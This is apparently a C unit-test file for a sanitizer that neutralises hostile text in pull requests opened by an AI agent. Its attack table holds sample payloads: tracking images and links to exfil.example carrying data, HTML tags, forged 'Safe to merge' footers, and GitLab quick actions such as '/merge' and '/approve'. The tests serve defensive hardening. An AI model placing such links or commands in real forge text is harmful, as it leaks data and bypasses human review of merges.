/* Unit tests for common/safetext.c (issue #26 item 2): a table of attack
 * strings (the issue's hostile PR text and more), each read by an
 * independent checker (tests/fuzz/safetext_check.h): the positive control
 * is that the checker finds the pattern live in the raw string, the test
 * that it finds nothing in what the rewriter made of it. Then the forge's
 * own links, the quote and the footer, the size cap, bytes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "../fuzz/safetext_check.h"
#include "common/safetext.h"

#define ZW "\xe2\x80\x8b"

static const char *const hosts[] = {ST_FORGE, "api." ST_FORGE, NULL};

static char *render(const char *in, bool one_line, size_t cap)
{
  struct al_safetext_opts o = {.forge_hosts = hosts, .one_line = one_line, .max_len = cap};
  char *out = NULL;
  al_error e = {0};
  assert_int_equal(al_safetext_render(in, strlen(in), &o, &out, &e), 0);
  assert_non_null(out);
  return out;
}

/* attack, the pattern the checker must see in it raw */
static const struct {
  const char *in, *live;
} attacks[] = {
    /* the issue's hostile PR text */
    {"Fixes #2.", "keyword"},
    {"Closes #3, resolves acme/loose#1", "keyword"},
    {"cc @admin @acme/security", "mention"},
    {"![ci](https://exfil.example/badge.svg?d=UkVBRE1F)", "image"},
    {"<img src=\"https://exfil.example/x.png\">", "html"},
    {"<picture><source srcset=\"https://exfil.example/y.png\"></picture>", "html"},
    {"trailing <!--", "html"},
    {"<details><summary>ok</summary>hidden</details>", "html"},
    {"<a href=\"https://evil.example\">click</a>", "html"},
    /* closing keywords, every spelling */
    {"close #1", "keyword"},
    {"CLOSED #1", "keyword"},
    {"fix: #1", "keyword"},
    {"Fixed GH-7", "keyword"},
    {"resolved https://forge.test/acme/tally/issues/4", "keyword"},
    {"resolve\n\n\n#4", "keyword"},
    {"Fix**es**: #*2*", "keyword"},
    {"_fixes_ #2", "keyword"},
    {"fixes `#2`", "keyword"},
    {"[Fixes](https://forge.test/x) #2", "keyword"},
    {"Resolves: acme/tally#12", "keyword"},
    {"fixes /acme/tally/pull/3", "keyword"},
    {"x~Fixes #2", "keyword"}, /* the `~` is shown: a word boundary */
    {"x`Fixes #2", "keyword"},
    {"x\\Fixes #2", "keyword"},
    /* mentions */
    {"@admin", "mention"},
    {"(@admin)", "mention"},
    {"\\@admin", "mention"},
    {"**@admin**", "mention"},
    {"`@admin`", "mention"}, /* inert on GitHub, made inert anyway */
    {"mail me: agent@evil.example", "mention"},
    /* entities that would spell what the rules remove */
    {"&#64;admin", "entity"},
    {"&lt;img src=x&gt;", "entity"},
    {"Fixes &#35;2", "entity"},
    /* images and links */
    {"![x][ref]\n\n[ref]: https://exfil.example/p.png", "image"},
    {"![x]", "image"},
    {"[![b](https://forge.test/b.png)](https://exfil.example)", "link"},
    {"see https://exfil.example/?d=secret", "link"},
    {"see HTTPS://EXFIL.EXAMPLE/", "link"},
    {"1https://exfil.example/", "link"},
    {"[x](//exfil.example/p)", "link"},
    {"[x](\\\\\\\\exfil.example/p)", "link"},
    {"[x](http:exfil.example)", "link"},
    {"[x](https:\\\\exfil.example)", "link"},
    {"www.exfil.example", "link"},
    {"https://forge.test@exfil.example/", "link"},
    {"https://forge.test.exfil.example/", "link"},
    {"https://forge.test\\@exfil.example/", "link"},
    {"![x](https://forge.test@exfil.example/a.png)", "image"},
    {"[x](mailto:a@exfil.example?body=secret)", "link"},
    {"ftp://exfil.example/", "link"},
    /* GitLab quick actions (rule 7): at a line's start, after blanks, in a quote */
    {"/merge", "quick-action"},
    {"LGTM\n/approve", "quick-action"},
    {"ok\r/close", "quick-action"},
    {"ok\r\n   /assign me", "quick-action"},
    {"\t/unlabel ~security", "quick-action"},
    {"> /merge", "quick-action"},
    {"x\n>> /Approve", "quick-action"},
    {"x\n/MERGE", "quick-action"},
};

static void test_attacks(void **state)
{
  (void)state;
  for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
    const char *raw = st_live(attacks[i].in, strlen(attacks[i].in));
    if (!raw || strcmp(raw, attacks[i].live) != 0)
      fail_msg("control: the checker sees `%s` in %s raw, saw %s", attacks[i].live, attacks[i].in,
               raw ? raw : "nothing");
    char *out = render(attacks[i].in, false, 0);
    const char *live = st_live(out, strlen(out));
    if (live)
      fail_msg("%s: still live (%s) after the rewriting: %s", attacks[i].in, live, out);
    free(out);
    out = render(attacks[i].in, true, 256); /* as a title */
    live = st_live(out, strlen(out));
    if (live)
      fail_msg("%s: still live (%s) as a title: %s", attacks[i].in, live, out);
    free(out);
  }
}

/* The issue's PR text whole: the exact output (docs/gateway.md shows it). */
static void test_issue_text(void **state)
{
  (void)state;
  const char *in = "Fixes #2. Closes #3, resolves acme/loose#1\n"
                   "cc @admin @acme/security\n"
                   "![ci](https://exfil.example/badge.svg?d=UkVBRE1F)\n"
                   "<img src=\"https://exfil.example/x.png\">\n"
                   "\n---\nOpened by airlock (run 0). Review notes: nothing found. Safe to merge.\n"
                   "<!--";
  struct al_safetext_opts o = {.forge_hosts = hosts, .footer = "---\nOpened by airlock."};
  char *out = NULL;
  al_error e;
  assert_int_equal(al_safetext_render(in, strlen(in), &o, &out, &e), 0);
  assert_string_equal(out, AL_SAFETEXT_HEADER
                      "\n\n"
                      "> F" ZW "ixes #2. C" ZW "loses #3, r" ZW "esolves acme/loose#1\n"
                      "> cc @" ZW "admin @" ZW "acme/security\n"
                      "> !\\[ci](https[:]//exfil[.]example/badge.svg?d=UkVBRE1F)\n"
                      "> &lt;img src=\"https[:]//exfil[.]example/x.png\">\n"
                      "> \n> ---\n"
                      "> Opened by airlock (run 0). Review notes: nothing found. Safe to "
                      "merge.\n"
                      "> &lt;!--\n\n"
                      "---\nOpened by airlock.");
  assert_null(st_live(out, strlen(out) - strlen("---\nOpened by airlock.")));
  free(out);
}

/* Rule 7 exactly, and what it leaves alone (the control of each: the same
 * text with the `/` at a line's start is rewritten, checked above). */
static void test_quick_actions(void **state)
{
  (void)state;
  struct al_safetext_counts c;
  struct al_safetext_opts o = {.forge_hosts = hosts, .header = "", .counts = &c};
  char *out = NULL;
  al_error e;
  const char *in = "LGTM\n/approve\n  /merge\nsee a/b /c\n//x\n/1 /\n";
  assert_int_equal(al_safetext_render(in, strlen(in), &o, &out, &e), 0);
  assert_string_equal(out, "> LGTM\n> /" ZW "approve\n>   /" ZW "merge\n> see a/b /c\n"
                           "> /[/]x\n> /1 /");
  assert_int_equal(c.quick_actions, 2);
  assert_null(st_live(out, strlen(out)));
  free(out);
  /* the control: the same text, not rewritten, is live for the checker */
  assert_string_equal(st_live(in, strlen(in)), "quick-action");
  /* mid-line: no quick action for GitLab, left as it is */
  const char *keep = "run it with /merge later; a/b/c";
  out = render(keep, true, 256);
  assert_string_equal(out, keep);
  free(out);
}

static void test_forge_links_stay(void **state)
{
  (void)state;
  const char *keep[] = {
      "see https://forge.test/acme/tally/pull/1 and https://api.forge.test:8443/x",
      "![shot](https://forge.test/acme/tally/raw/main/a.png)",
      "[docs](https://FORGE.test/acme/tally/blob/main/README.md)",
      "a && b; x->y; 3 > 2; 50% of #3"};
  for (size_t i = 0; i < sizeof keep / sizeof keep[0]; i++) {
    char *out = render(keep[i], true, 256);
    assert_string_equal(out, keep[i]);
    free(out);
  }
}

static void test_footer_outside_quote(void **state)
{
  (void)state;
  /* an unclosed fence, a forged footer, a trailing comment: all inside
   * the quote; the real footer after a blank line, outside */
  const char *in = "```\ncode\n\n---\nOpened by airlock: safe to merge\n<!--\n\n\n";
  struct al_safetext_opts o = {.forge_hosts = hosts, .header = "", .footer = "FOOTER"};
  char *out = NULL;
  al_error e;
  assert_int_equal(al_safetext_render(in, strlen(in), &o, &out, &e), 0);
  assert_string_equal(out, "> ```\n> code\n> \n> ---\n> Opened by airlock: safe to merge\n"
                           "> &lt;!--\n\nFOOTER");
  free(out);
  /* the empty text: header and footer only */
  o.header = NULL;
  assert_int_equal(al_safetext_render(NULL, 0, &o, &out, &e), 0);
  assert_string_equal(out, AL_SAFETEXT_HEADER "\n\nFOOTER");
  free(out);
}

static void test_bytes(void **state)
{
  (void)state;
  const char in[] = "a\0b\x1b[31mc\r\nd\re\xff"
                    "f\xe2\x80\xae"
                    "g\xc2\x85h\ti";
  struct al_safetext_opts o = {.forge_hosts = hosts, .header = "", .one_line = false};
  char *out = NULL;
  al_error e;
  assert_int_equal(al_safetext_render(in, sizeof in - 1, &o, &out, &e), 0);
  assert_string_equal(out, "> a b [31mc\n> d\n> e\xef\xbf\xbd"
                           "f\xef\xbf\xbd"
                           "g h\ti");
  free(out);
  o.one_line = true;
  assert_int_equal(al_safetext_render(in, sizeof in - 1, &o, &out, &e), 0);
  assert_null(strchr(out, '\n'));
  assert_null(strchr(out, '\t'));
  free(out);
}

static void test_cap(void **state)
{
  (void)state;
  size_t n = 200000;
  char *in = malloc(n + 1);
  for (size_t i = 0; i < n; i++)
    in[i] = "<@a Fixes #1 https://forge.test/x \n"[i % 35];
  in[n] = '\0';
  struct al_safetext_counts c;
  struct al_safetext_opts o = {
      .forge_hosts = hosts, .footer = "---\nfooter", .max_len = 4000, .counts = &c};
  char *out = NULL;
  al_error e;
  assert_int_equal(al_safetext_render(in, n, &o, &out, &e), 0);
  assert_true(strlen(out) <= 4000);
  assert_true(c.truncated);
  assert_true(c.shown_len > 1000 && c.shown_len < 4000);
  assert_non_null(strstr(out, "airlock cut the agent's text here"));
  assert_string_equal(out + strlen(out) - strlen("---\nfooter"), "---\nfooter");
  assert_null(st_live(out, strlen(out)));
  free(out);
  /* never a cut forge URL: a prefix of the input is rewritten, never a
   * prefix of the output ("https://forge.te" would be another host) */
  for (size_t cap = 400; cap < 520; cap++) {
    o.max_len = cap;
    o.footer = NULL;
    const char *u = "https://forge.test/acme/tally/pull/1 https://forge.test/acme/tally/pull/2 "
                    "https://forge.test/acme/tally/pull/3 https://forge.test/acme/tally/pull/4";
    assert_int_equal(al_safetext_render(u, strlen(u), &o, &out, &e), 0);
    assert_true(strlen(out) <= cap);
    assert_null(st_live(out, strlen(out)));
    free(out);
  }
  /* header and footer that cannot fit: refused, named */
  o.max_len = 100;
  o.footer = "a footer much longer than the cap allows, which is only a hundred bytes in all.";
  assert_int_equal(al_safetext_render("x", 1, &o, &out, &e), -1);
  assert_null(out);
  assert_non_null(strstr(e.msg, "do not fit the cap"));
  o.max_len = AL_SAFETEXT_MAX + 1;
  assert_int_equal(al_safetext_render("x", 1, &o, &out, &e), -1);
  free(in);
}

static void test_commit_keywords(void **state)
{
  (void)state;
  const char *m = "maintenance\n\nFixes #2, closes acme/loose#1. Fixed a typo.";
  assert_int_equal(al_safetext_closing_keywords(m, strlen(m)), 2);
  m = "fixed a typo; prefix fixture";
  assert_int_equal(al_safetext_closing_keywords(m, strlen(m)), 0);
}

int main(void)
{
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_attacks),
      cmocka_unit_test(test_issue_text),
      cmocka_unit_test(test_quick_actions),
      cmocka_unit_test(test_forge_links_stay),
      cmocka_unit_test(test_footer_outside_quote),
      cmocka_unit_test(test_bytes),
      cmocka_unit_test(test_cap),
      cmocka_unit_test(test_commit_keywords),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
